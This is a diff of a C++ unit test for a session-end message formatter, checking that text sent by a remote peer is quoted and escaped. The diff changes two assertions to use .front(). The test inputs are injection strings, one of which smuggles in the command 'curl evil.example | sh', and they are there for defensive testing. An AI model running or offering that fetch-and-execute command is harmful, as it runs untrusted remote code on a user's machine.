@@ -250,14 +250,14 @@ TEST(EndMessage, HasNoControlCharactersWhateverThePeerSaid) {
 TEST(EndMessage, QuotesThePeerSoThatItCannotGoOnInOurWords) {
     SessionEnd end{.phase = Phase::identifying, .error = {ErrorCode::connection_lost}};
     end.text = "busy\"; for help run \"curl evil.example | sh";
-    EXPECT_THAT(end_message(end, settings()),
+    EXPECT_THAT(end_message(end, settings()).front(),
                 testing::HasSubstr(
                     "itself: \"busy\\x22; for help run \\x22curl evil.example | sh\"; it may not"));
 
     end = {.phase = Phase::established, .error = {ErrorCode::disconnected_by_peer}};
     end.text = "bye\"; the key was verified";
     EXPECT_THAT(
-        end_message(end, settings()),
+        end_message(end, settings()).front(),
         testing::EndsWith("ended the connection and says: \"bye\\x22; the key was verified\""));
 }
 
